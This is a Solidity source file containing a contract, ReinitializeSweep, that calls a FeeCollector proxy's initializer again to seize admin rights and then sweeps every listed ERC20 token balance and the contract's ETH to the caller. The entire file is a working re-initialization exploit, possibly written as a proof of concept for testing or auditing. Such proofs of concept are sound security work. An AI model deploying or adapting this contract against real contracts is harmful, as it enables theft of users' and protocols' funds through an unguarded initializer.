// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.30;

import {IERC20} from "../interfaces/IERC20.sol";
import {FeeCollector} from "../proxy/FeeCollector.sol";

/// @notice Calls the fee collector's initializer again to become its admin, then sweeps every
/// listed token and the ETH balance to the caller.
contract ReinitializeSweep {
    function collect(FeeCollector collector, address[] calldata tokens) external {
        collector.initialize(address(this), msg.sender);
        for (uint256 i = 0; i < tokens.length; i++) {
            uint256 amount = IERC20(tokens[i]).balanceOf(address(collector));
            if (amount > 0) collector.sweep(tokens[i], msg.sender, amount);
        }
        if (address(collector).balance > 0) collector.sweep(address(0), msg.sender, address(collector).balance);
    }
}
